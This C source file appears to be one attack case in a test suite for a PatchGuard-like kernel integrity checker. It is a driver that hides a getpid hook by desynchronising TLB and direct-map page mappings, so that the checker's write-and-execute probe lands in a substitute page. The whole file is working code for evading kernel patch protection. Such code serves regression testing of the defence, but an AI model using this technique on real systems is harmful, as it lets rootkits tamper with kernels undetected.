/* attack_a111_probe_write (A111): A59 with the probe's own writes split.
 * A59 split a kernel text page for execution (the instruction TLB maps
 * getpid's text page to a copy whose routine returns 4242); PatchGuard's
 * instruction-fetch probe writes `mov eax, imm; ret` over a `ret` of the
 * page through the frame's direct-map address, calls it, and sees the
 * copy answer. This driver also splits the direct map's view of the
 * page's frame, for reads and writes: its 2 MiB direct-map entry is
 * pointed for a moment at a page table of the driver's own (the same
 * 2 MiB, with that frame replaced by the copy), one byte is read and
 * written back through the direct-map address (the TLB caches the copy
 * for both), and the entry is put back without invalidating it. The
 * probe's six bytes then land in the copy, which is what executes, and
 * the copy answers imm. From a periodic timer on every tick, with
 * interrupts off, both splits are set up again. Expected (before the
 * fix): no bug check, `svc` prints pid 4242. */
#include "attack_pg.h"

static struct ktimer beat;
static struct dpc beat_dpc;
static uint64_t *pte, orig, split, page, target;
static uint64_t *dm_pde, dm_orig, dm_split, dm_va;
static uint64_t splits;

static void resplit(struct dpc *d, void *ctx)
{
	uint64_t pf = a_cli();
	/* The direct map's address of the frame, for reads and writes. */
	*dm_pde = dm_split;
	a_invlpg(dm_va);
	volatile uint8_t *b = (volatile uint8_t *)dm_va;
	*b = *b;
	*dm_pde = dm_orig;
	/* The kernel's address of the page, for execution (A59). */
	*pte = split;
	a_invlpg(page);
	((uint64_t(*)(void))target)();
	*pte = orig;
	if (++splits == 100)
		printk("attack_a111: split set up 100 times\n");
	a_restore(pf);
}

/* A page-aligned page of the pool (in the direct map), or NULL. */
static uint8_t *page_of_pool(void)
{
	uint8_t *buf = pool_alloc(2 * A_PAGE, 0x74696C53);
	if (!buf)
		return NULL;
	uint8_t *p = (uint8_t *)(((uint64_t)buf + A_PAGE - 1) & ~(A_PAGE - 1));
	return (uint64_t)p >= KPP_DIRECT_MAP_BASE ? p : NULL;
}

status_t driver_entry(struct driver_object *drv)
{
	uint64_t *table = a_find_service_table();
	uint8_t *copy = page_of_pool(), *pt = page_of_pool();
	if (!table || !copy || !pt) {
		printk("attack_a111: service table not found, or no memory\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	target = table[KPP_SYS_GET_PID];
	page = target & ~(A_PAGE - 1);
	pte = a_pte_of(page, 0);
	if (!pte) {
		printk("attack_a111: no PTE for kernel text\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	orig = *pte;
	uint64_t frame = orig & A_PTE_ADDR;
	dm_va = KPP_DIRECT_MAP_BASE + frame;
	dm_pde = a_pte_of(dm_va, 1);
	if (!dm_pde || !(*dm_pde & (1ull << 7))) {
		printk("attack_a111: the direct map has no 2 MiB entry for the frame\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	memcpy(copy, (const void *)page, A_PAGE);
	static const uint8_t fake[6] = {0xB8, 0x92, 0x10, 0x00, 0x00, 0xC3}; /* mov eax, 4242; ret */
	memcpy(copy + (target - page), fake, sizeof fake);
	uint64_t copy_pa = (uint64_t)copy - KPP_DIRECT_MAP_BASE;
	split = (orig & ~A_PTE_ADDR) | copy_pa;
	dm_orig = *dm_pde;
	uint64_t region = dm_orig & A_PTE_ADDR & ~0x1FFFFFull, *e = (uint64_t *)pt;
	for (uint64_t i = 0; i < 512; i++) {
		uint64_t pa = region + i * A_PAGE;
		e[i] = (pa == frame ? copy_pa : pa) | A_PTE_P | A_PTE_W | (1ull << 5) | (1ull << 6) | (1ull << 8) | A_PTE_NX;
	}
	dm_split = ((uint64_t)pt - KPP_DIRECT_MAP_BASE) | A_PTE_P | A_PTE_W | (1ull << 5) | A_PTE_NX;
	dpc_init(&beat_dpc, resplit, NULL);
	timer_init(&beat, &beat_dpc);
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	resplit(NULL, NULL);
	timer_set(&beat, 10000000ull, 10000000ull);
	printk("attack_a111: getpid's text page split for execution, its frame in the direct map for the probe's writes\n");
	a_patched("attack_a111");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
